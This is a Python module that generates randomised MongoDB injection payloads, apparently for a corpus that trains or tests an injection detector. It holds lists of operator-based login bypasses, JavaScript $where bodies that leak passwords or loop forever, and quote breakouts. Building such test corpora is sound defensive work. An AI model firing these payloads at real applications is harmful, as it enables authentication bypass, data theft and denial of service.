"""NoSQL (MongoDB) injection: query operators where the application expects a value, and
JavaScript where it builds a `$where` clause.

Operator queries are objects (`{"password": {"$ne": null}}`): they travel as bracketed keys
in query strings and forms (`password[$ne]=`, which PHP, Express's `qs` and Rails turn back
into objects) and as JSON in JSON bodies. `$where`/`$function` bodies and string breakouts are
plain values."""

from __future__ import annotations

import json
import random

from owncorpus.grammar import STRUCT, Attack, draw_distinct, one

CLASS = "nosqli"
PARAMS = ("username", "user", "login", "password", "email", "filter", "q", "token", "id", "where")

FIELDS = ("username", "user", "login", "email", "password", "pass", "token", "role", "id", "name")
# (operator, operand) pairs that make a comparison always true or leak by prefix
OPERATORS = (
    ("$ne", None), ("$ne", ""), ("$ne", "x"), ("$ne", 1), ("$gt", ""), ("$gte", ""), ("$gt", None), ("$lt", "~"),
    ("$regex", ".*"), ("$regex", "^a"), ("$regex", "^adm"), ("$regex", "^.{0,64}$"), ("$exists", True),
    ("$nin", ["x"]), ("$in", ["admin", "root"]), ("$not", {"$eq": "x"}), ("$where", "1==1"),
    ("$where", "sleep(5000)"), ("$expr", {"$eq": [1, 1]}), ("$type", 2),
)
JS_BODIES = (
    "sleep(5000)", "this.password.match(/^a.*/)", "this.password.length>0", "1==1", "true",
    "Object.keys(this)[0].match(/^.{0}a/)", "function(){return true}", "while(true){}",
    "this.role=='admin'", "db.getCollectionNames().length>0",
)
BREAKOUTS = (
    "'; return true; var x='", "' || '1'=='1", "'; while(true){}; var x='", "' && this.password.match(/.*/)//",
    "'||1==1//", "\"; return true; var x=\"", "1; return true", "0;sleep(5000)", "' || this.role=='admin' || '",
    "a'; return db.users.find(); var x='", "x' || 'a'=='a", "'; return this.password; var x='",
)


def _struct(rng: random.Random) -> dict:
    doc: dict = {}
    for _ in range(rng.randrange(1, 3)):
        op, operand = one(rng, OPERATORS)
        if op in ("$where", "$expr"):
            doc[op] = operand if op == "$expr" else one(rng, JS_BODIES)
        else:
            doc[one(rng, FIELDS)] = {op: operand}
    if rng.random() < 0.15:
        doc = {"$or": [doc, {one(rng, FIELDS): {"$ne": None}}]}
    return doc


def _value(rng: random.Random) -> str:
    r = rng.random()
    if r < 0.5:
        return one(rng, BREAKOUTS)
    if r < 0.75:
        # the JavaScript a $where clause runs, as a value concatenated into one
        return one(rng, ("0", "'", "1'")) + one(rng, (";", " || ", " && ")) + one(rng, JS_BODIES) + one(rng, ("", "//", ";var x='"))
    return json.dumps({"$where": one(rng, JS_BODIES)}, separators=(",", ":"))


def attacks(rng: random.Random, n: int) -> list[Attack]:
    structs: dict[str, dict] = {}
    tries = 0
    while len(structs) < n * 2 // 3 and tries < n * 50:
        tries += 1
        s = _struct(rng)
        structs.setdefault(json.dumps(s, separators=(",", ":")), s)
    out = [Attack(CLASS, text, PARAMS, STRUCT, s) for text, s in structs.items()]
    taken = set(structs)
    out += [Attack(CLASS, p, PARAMS) for p in draw_distinct(rng, _value, n - len(out) + 40) if p not in taken]
    return out
